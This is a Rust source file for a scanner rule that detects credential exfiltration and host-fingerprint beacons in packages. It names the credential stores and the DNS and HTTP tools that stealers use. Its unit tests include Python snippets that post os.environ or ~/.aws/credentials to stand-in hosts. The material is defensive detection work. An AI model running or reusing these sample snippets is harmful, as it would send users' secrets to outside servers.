//! credential-exfiltration: reading credential stores or the whole environment, and sending
//! them over the network.

use crate::finding::RuleInfo;
use crate::finding::{Confidence, Severity};
use crate::inspect::facts::{CRED, ENV_ALL, HOST};
use crate::inspect::patterns::{self, CredKind, SEND_METHODS};
use crate::inspect::rules::{mark, string_marks};
use crate::inspect::{Emitter, FileCx};

pub static INFO: RuleInfo = RuleInfo {
    id: "credential-exfiltration",
    severity: Severity::High,
    summary: "Credentials or the whole environment are read and sent over the network",
    help: "Tracks reads of credential stores (~/.aws/credentials, ~/.ssh, .netrc, .pypirc, \
           .git-credentials, docker/kube configs, browser Login Data/Cookies, Discord and \
           Telegram token stores, crypto wallets such as Exodus, Electrum and MetaMask) and of \
           the whole environment (dict(os.environ), os.environ.copy()). Data flowing from \
           those into a network call is high (critical at install or import time). Browser, \
           chat and wallet stores are medium when only read and high in a file that also uses \
           the network; developer credential files that SDKs legitimately read are low when \
           only read. Host identity (user name, host name, working directory, machine id) sent \
           over the network or as a DNS lookup by code that runs at install or import time is \
           high.",
};

pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
    let Some(facts) = cx.facts else { return };
    // Whether the file uses the network, worked out only when something needs it.
    let net_cell = std::cell::OnceCell::new();
    let net = || *net_cell.get_or_init(|| cx.has_network());
    for c in &facts.calls {
        // Host identity (user, host name, working directory) sent out by code that runs by
        // itself: the fingerprint beacons of dependency-confusion probes and stealers, over
        // HTTP or as DNS lookups (`ping <data>.host`).
        if c.arg_taint() & HOST != 0 && c.ctx.is_automatic() {
            let beacon = c.is_network()
                || c.is_process()
                    && c.args.first().and_then(|a| a.text()).is_some_and(|t| {
                        let first = t.split_whitespace().next().unwrap_or("");
                        matches!(
                            first,
                            "ping" | "nslookup" | "dig" | "host" | "curl" | "wget"
                        )
                    })
                || c.is_process()
                    && c.args.first().is_some_and(|a| {
                        a.atoms.iter().any(|x| {
                            let w = x.split_whitespace().next().unwrap_or("");
                            matches!(w, "ping" | "nslookup" | "dig" | "host" | "curl" | "wget")
                        })
                    });
            if beacon {
                out.emit(
                    &INFO,
                    Severity::High,
                    Confidence::High,
                    c.line,
                    format!(
                        "host identity (user, host name, working directory) is sent with `{}` {}",
                        c.name,
                        c.ctx.label()
                    ),
                    c.note.as_deref(),
                );
            }
        }
        if c.arg_taint() & (CRED | ENV_ALL) == 0 {
            continue;
        }
        let send =
            c.is_network() || net() && SEND_METHODS.contains(&c.method()) && c.name.contains('.');
        if send {
            let what = if c.arg_taint() & CRED != 0 {
                "credential files"
            } else {
                "the whole environment"
            };
            out.emit(
                &INFO,
                c.ctx.pick(Severity::Critical, Severity::High),
                Confidence::High,
                c.line,
                format!("data read from {what} is sent with `{}`", c.name),
                c.note.as_deref(),
            );
        }
    }
    for (s, &m) in facts.strings.iter().zip(string_marks(cx)) {
        let personal = m & mark::CRED_PERSONAL != 0;
        let developer = m & mark::CRED_DEVELOPER != 0;
        let Some(kind) = patterns::cred_store_marked(&s.text, personal, developer) else {
            continue;
        };
        let (sev, msg) = match (kind, net()) {
            (CredKind::Personal, true) => (
                s.ctx.pick(Severity::Critical, Severity::High),
                "browser, chat or wallet credential store is read in a file that uses the network",
            ),
            (CredKind::Personal, false) => (Severity::Medium, "browser, chat or wallet credential store is referenced"),
            (CredKind::Developer, true) if s.ctx.is_automatic() && s.ctx != crate::inspect::context::RunContext::Import => {
                (Severity::Medium, "developer credential file is referenced by install-time code that uses the network")
            }
            (CredKind::Developer, _) => (Severity::Low, "developer credential file is referenced"),
        };
        let sev = if s.ctx == crate::inspect::context::RunContext::Test {
            Severity::Info.max(crate::inspect::context::lower(sev, 2))
        } else {
            sev
        };
        out.emit(
            &INFO,
            sev,
            Confidence::Medium,
            s.line,
            msg,
            s.decoded_via.map(|_| s.text.as_str()).or(s.note.as_deref()),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::inspect::rules::testutil::worst;

    #[test]
    fn env_dump_posted_is_critical_at_import() {
        let src = "import os, json, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen('https://x.example.invalid/c', data=data)\n";
        assert_eq!(
            worst("credential-exfiltration", "pkg/__init__.py", src),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn aws_file_sent_in_function_is_high() {
        let src = "import os, requests\ndef go():\n    p = os.path.expanduser('~/.aws/credentials')\n    body = open(p).read()\n    requests.post('https://x.example.invalid', data=body)\n";
        assert_eq!(
            worst("credential-exfiltration", "pkg/a.py", src),
            Some(Severity::High)
        );
    }

    #[test]
    fn sdk_reading_config_and_env_for_subprocess_is_low() {
        let src = "import os, subprocess\nCRED = os.path.join('~', '.aws', 'credentials')\nP = '~/.aws/credentials'\ndef run():\n    env = dict(os.environ)\n    env['X'] = '1'\n    subprocess.run(['tool'], env=env)\n";
        assert_eq!(
            worst("credential-exfiltration", "pkg/a.py", src),
            Some(Severity::Low)
        );
        let tok = "import os, requests\ndef f():\n    return requests.get('https://example.invalid', headers={'Authorization': os.environ['API_TOKEN']})\n";
        assert_eq!(worst("credential-exfiltration", "pkg/a.py", tok), None);
    }

    #[test]
    fn browser_store_with_network_is_high() {
        let src = "import requests\nLD = r'Google\\Chrome\\User Data\\Default\\Login Data'\n";
        assert_eq!(
            worst("credential-exfiltration", "pkg/a.py", src),
            Some(Severity::Critical)
        );
    }
}
